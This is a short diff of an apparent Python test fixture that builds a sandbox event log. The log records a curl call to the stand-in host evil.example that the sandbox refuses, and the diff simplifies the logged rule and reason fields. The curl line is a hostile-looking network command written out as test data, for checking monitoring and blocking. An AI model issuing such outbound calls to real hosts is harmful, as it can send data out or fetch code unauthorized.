@@ -95,7 +95,7 @@ def sample(workspace="/work/app", text="", run=RUN):
     log.add("exec", 10, pid=13, parent=12, program="sh", path="/usr/bin/curl", argv=["curl", "-s", "https://evil.example/x" + text], argc=9,
             cut=True, hash=HASH, script=False)
     log.add("connection", 5, pid=13, program="curl" + text, name="evil.example" + text, address=None, port=443, verdict="refused",
-            rule="network: none of the allowed names" + text, reason="not allowed" + text, request=None, sent=0, received=0, duration_ms=0,
+            rule=None, reason="not allowed", request=None, sent=0, received=0, duration_ms=0,
             count=3)
     log.add("connection", 5, pid=8, program="node", name="localhost", address="127.0.0.1", port=5432, verdict="failed", rule=None,
             reason="Connection refused", request=None, sent=0, received=0, duration_ms=1, count=1)
